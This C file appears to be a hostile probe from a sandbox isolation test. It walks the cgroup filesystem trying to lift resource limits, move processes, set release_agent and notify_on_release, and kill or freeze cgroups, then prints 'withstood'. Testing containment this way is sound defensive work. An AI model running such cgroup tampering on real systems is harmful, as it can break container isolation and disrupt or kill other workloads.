#include "hostile.h"
#include <ftw.h>

static int found;

static void put(const char *path, const char *text) {
    int file = open(path, O_WRONLY);
    if (file >= 0 && write(file, text, strlen(text)) > 0) printf("%s takes %s\n", path, text);
}

static int look(const char *path, const struct stat *data, int kind, struct FTW *where) {
    const char *name = path + where->base;
    (void)data;
    if (kind == FTW_D) {
        char more[PATH_MAX];
        snprintf(more, sizeof more, "%s/mine", path);
        if (!mkdir(more, 0700)) printf("%s is made\n", more);
    }
    if (!strcmp(name, "cgroup.procs") || !strcmp(name, "tasks")) put(path, "0");
    if (strstr(name, "max") || strstr(name, "limit_in_bytes")) put(path, "max");
    if (!strcmp(name, "release_agent") || !strcmp(name, "notify_on_release")) put(path, "1");
    if (!strcmp(name, "cgroup.kill") || !strcmp(name, "freezer.state") || !strcmp(name, "cgroup.freeze")) put(path, "1");
    return found++ > 20000;
}

int attack(void) {
    nftw("/sys/fs/cgroup", look, 16, FTW_PHYS);
    nftw("/proc/self/root/sys/fs/cgroup", look, 16, FTW_PHYS);
    puts("withstood");
    return 0;
}
